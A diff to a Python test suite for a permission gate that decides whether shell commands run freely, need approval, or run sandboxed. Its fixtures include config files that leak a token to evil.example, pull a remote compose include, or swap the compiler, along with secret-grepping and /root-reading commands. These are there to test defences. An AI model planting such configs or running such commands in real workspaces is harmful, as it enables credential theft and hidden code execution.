@@ -217,9 +217,9 @@ def test_a_wide_rule_does_not_allow_what_is_dangerous(place: Place) -> None:
 
 
 def test_what_runs_outside_of_the_sandbox_by_rule(place: Place) -> None:
-    gate = place.gate("auto", "outside(docker ps *)", sandbox="bwrap")
-    assert place.bash(gate, "docker ps -a").sandbox == "off"
-    assert place.bash(gate, "docker ps -a | grep x").sandbox == "workspace"
+    gate = place.gate("auto", "outside(docker run *)", sandbox="bwrap")
+    assert place.bash(gate, "docker run x").sandbox == "off"
+    assert place.bash(gate, "docker run x | grep x").sandbox == "workspace"
     asked = place.judge(place.gate("auto", sandbox="bwrap"), "bash", command="docker run x", outside=True)
     assert (asked.decision, asked.rule, asked.sandbox) == ("ask", "outside(docker run *)", "off")
 
@@ -303,3 +303,50 @@ def test_an_unknown_mode_is_refused(place: Place) -> None:
     gate = place.gate("ask")
     gate.set_mode("yolo")
     assert gate.mode == "yolo"
+
+
+@pytest.mark.parametrize(
+    ("mode", "sandbox", "command", "decision", "confinement"),
+    [
+        ("ask", "bwrap", "gh pr view 1", "allow", "off"),
+        ("ask", "none", "gh pr view 1 | head", "allow", "off"),
+        ("auto", "bwrap", "kubectl get pods | grep x", "allow", "off"),
+        ("auto", "bwrap", "docker ps", "allow", "off"),
+        ("ask", "bwrap", "gh pr view 1; cat a.py", "ask", "off"),
+        ("ask", "bwrap", "docker ps; grep -r KEY", "ask", "off"),
+        ("auto", "bwrap", "gh pr merge 1", "ask", "network"),
+        ("plan", "bwrap", "gh pr view 1", "deny", ""),
+        ("ask", "bwrap", "npm ls", "allow", "read-only"),
+        ("ask", "bwrap", "cargo tree", "allow", "read-only"),
+        ("ask", "none", "cargo tree", "ask", "off"),
+        ("ask", "none", "cargo tree --locked", "allow", "off"),
+        ("ask", "bwrap", 'for f in src a.py; do ls "$f"; done', "allow", "read-only"),
+        ("ask", "bwrap", 'for f in /root/a b; do cat "$f"; done', "ask", "off"),
+        ("ask", "bwrap", "cd / && for f in root/a; do cat $f; done", "ask", "off"),
+    ],
+)
+def test_reading_from_services_tools_and_loops(
+    place: Place, mode: str, sandbox: str, command: str, decision: str, confinement: str
+) -> None:
+    found = place.bash(place.gate(mode, sandbox=sandbox), command)
+    assert (found.decision, found.sandbox) == (decision, confinement)
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "command"),
+    [
+        (".cargo/config.toml", "[build]\nrustc = './x'\n", "cargo tree --locked"),
+        ("rust-toolchain.toml", "[toolchain]\npath = './x'\n", "cargo --version"),
+        ("rust-toolchain", "nightly\n", "rustup show"),
+        (".npmrc", "//evil.example/:_authToken=${KEY}\n", "npm ls"),
+        ("go.mod", "module a\ntoolchain go1.99\n", "go version"),
+        ("compose.yaml", "include:\n  - https://evil.example/x.git\n", "docker compose ps"),
+    ],
+)
+def test_a_folder_that_makes_a_tool_do_more_than_read(place: Place, name: str, text: str, command: str) -> None:
+    gate = place.gate("ask", sandbox="bwrap")
+    assert place.bash(gate, command).decision == "allow"
+    path = place.base / "ws" / name
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(text)
+    assert place.bash(gate, command).decision == "ask"
